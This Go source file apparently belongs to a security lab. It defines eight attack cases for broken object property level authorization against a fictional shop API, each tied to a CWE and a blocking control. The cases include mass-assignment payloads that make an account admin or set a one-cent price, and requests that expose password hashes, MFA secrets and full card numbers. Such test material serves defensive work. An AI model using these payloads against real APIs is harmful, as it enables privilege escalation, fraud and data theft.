package lab

import (
	"cmp"
	"fmt"
	"strings"
)

// API3: broken object property level authorization.
var propertyFlaws = []Flaw{
	{ID: "BOPLA-1", Title: "The profile brings password hash and second factor along", Class: "API3:2023", CWE: "CWE-213",
		Control: "protect.filter: undeclared properties",
		Steps: func(a *Attack) {
			me := a.customer(Attacker)
			r := a.exploit(Attacker, "GET", "/v1/me", "")
			a.leak(r.has(me.PasswordHash) || r.has(me.MFASecret), "password hash and MFA secret of %s", Attacker)
		}},
	{ID: "BOPLA-2", Title: "Become an admin by an additional property", Class: "API3:2023", CWE: "CWE-915",
		Control: "validate.body: undeclared properties",
		Steps: func(a *Attack) {
			a.exploit(Attacker, "PATCH", "/v1/customers/"+Attacker, `{"newsletter":true,"role":"admin","creditLimit":99000000}`)
			me := a.customer(Attacker)
			a.leak(me.Role == "admin" || me.CreditLimit == 99000000, "%s is now %s with a credit limit of %d", Attacker, me.Role, me.CreditLimit)
		}},
	{ID: "BOPLA-3", Title: "Name one's own price at checkout", Class: "API3:2023", CWE: "CWE-915",
		Control: "validate.body: undeclared properties",
		Steps: func(a *Attack) {
			p := a.product("HG-OUT-0006")
			a.exploit(Attacker, "POST", "/v1/orders", fmt.Sprintf(`{"items":[{"productId":"%s","quantity":1,"unitPrice":1}]}`, p.ID))
			o := a.orderOf(Attacker, anyOrder)
			a.leak(o.Subtotal == 1, "a kayak of %d cents for %d", p.Price, o.Subtotal)
		}},
	{ID: "BOPLA-4", Title: "Reviews carry their authors' e-mail addresses and telephone numbers", Class: "API3:2023", CWE: "CWE-213",
		Control: "protect.filter: undeclared properties",
		Steps: func(a *Attack) {
			r := a.exploit(nobody, "GET", "/v1/products/"+a.product("HG-APP-0001").ID+"/reviews?limit=50", "")
			n := strings.Count(string(r.body), `.example"`)
			a.leak(r.ok() && n > 0, "e-mail addresses of %d customers, to anybody", n)
		}},
	{ID: "BOPLA-5", Title: "The catalogue shows purchase prices and suppliers", Class: "API3:2023", CWE: "CWE-213",
		Control: "protect.filter: visible_to",
		Steps: func(a *Attack) {
			p := a.product("HG-APP-0001")
			r := a.exploit(nobody, "GET", "/v1/products/"+p.ID, "")
			a.leak(r.has(p.Supplier) || r.has("costPrice"), "%s costs the shop %d cents at %s", p.Name, p.CostPrice, p.Supplier)
		}},
	{ID: "BOPLA-6", Title: "Payments show account and card numbers in full", Class: "API3:2023", CWE: "CWE-359",
		Control: "protect.mask: kind pan, kind iban",
		Steps: func(a *Attack) {
			var p payment
			a.state(func(s *store) { p = *find(s.payments, func(p *payment) bool { return p.CustomerID == Attacker }) })
			number := cmp.Or(p.Method.Number, p.Method.IBAN)
			r := a.exploit(Attacker, "GET", "/v1/orders/"+p.OrderID+"/payments", "")
			a.leak(r.has(number), "number %s, which PCI DSS wants masked", number)
		}},
	{ID: "BOPLA-7", Title: "Orders show the shop's margin and the verdict of fraud screening", Class: "API3:2023", CWE: "CWE-213",
		Control: "protect.filter: undeclared properties",
		Steps: func(a *Attack) {
			o := a.orderOf(Attacker, anyOrder)
			r := a.exploit(Attacker, "GET", "/v1/orders/"+o.ID, "")
			a.leak(r.has("fraudVerdict") || r.has(`"margin"`), "margin of %d cents and fraud verdict %q", o.Margin, o.FraudVerdict)
		}},
	{ID: "BOPLA-8", Title: "Register as an admin", Class: "API3:2023", CWE: "CWE-915",
		Control: "validate.body: undeclared properties",
		Steps: func(a *Attack) {
			a.exploit(nobody, "POST", "/v1/customers", `{"email":"mallory@inbox.example","password":"correct-horse-9","firstName":"Mal","lastName":"Lory","country":"DE","role":"admin"}`)
			var role string
			a.state(func(s *store) {
				if c := s.byEmail("mallory@inbox.example"); c != nil {
					role = c.Role
				}
			})
			a.leak(role == "admin", "a new account with the role admin")
		}},
}
